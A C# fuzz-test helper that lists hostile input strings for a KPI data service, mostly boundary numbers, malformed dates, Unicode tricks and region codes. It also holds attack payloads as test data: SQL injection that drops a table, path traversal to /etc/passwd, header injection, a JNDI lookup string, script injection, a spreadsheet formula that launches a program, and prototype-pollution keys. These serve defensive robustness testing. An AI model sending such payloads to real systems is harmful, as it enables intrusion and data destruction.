using System.Text;

namespace KpiGrid.Tests.Fuzz;

/// <summary>What no sender means, and every sender sends one day: to stand where a value, a name or a parameter does.</summary>
internal static class HostileTexts
{
    public static IReadOnlyList<string> All { get; } =
    [
        "", " ", "null", "true", "-", "-0", "+1", "01", ".5", "5.", "1e308", "-1e308", "1e999999999", "1e-400", "NaN",
        "Infinity", "-Infinity", "1,5", "1.234,5", "1'000", "1_000", "0x10", "999999999999999", "1000000000000000",
        "0.0000000001", "-9223372036854775808", "18446744073709551616", new('9', 400), "0." + new string('3', 400),
        "\0", "a\0b", "\r\nX-Injected: 1", "%00", "%0d%0a", "%", "%zz", "%c0%af", "../../etc/passwd", "..%2f..%2f", "//",
        "\\", "'", "\"", "''; drop table journal; --", "' or 1=1 --", "{{7*7}}", "${jndi:ldap://x}", "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "\t=1", "\u202Egnp.exe", "\u200B", "\uFEFF", "\uFFFE", "é", "e\u0301", "ａ",
        "١٢", "wооd", "😀", "\\ud800", "\\udc00\\ud800", "\\u0000", new('a', 65), new('a', 2_001), new('x', 9_000),
        "{}", "[]", "[[]]", "{\"a\":1}", new('[', 200), "__proto__", "constructor", "$type", "id", "kpi",
        "1899-12-31", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "2026-13", "2026-W54", "2026-Q5", "2026-S3",
        "2026-01-01/2025-01-01", "2026-01-01/", "/2026-01-01", "2026-03-29T02:30:00", "2026-03-29T01:30Z",
        "2026-12-31T23:59:60Z", "2026-01-01T00:00+99:00", "1726-01-01", "2326-01-01", "24:00", "-2026-01-01",
        "DK-0657", "dk-0657", "DK-", "-", "NL-GM0363", "ZZ-1", "regions/", "regions/none", "places/ncc",
    ];

    public static string One(Random random) => All[random.Next(All.Count)];

    public static byte[] Bytes(Random random) => Encoding.UTF8.GetBytes(One(random));
}
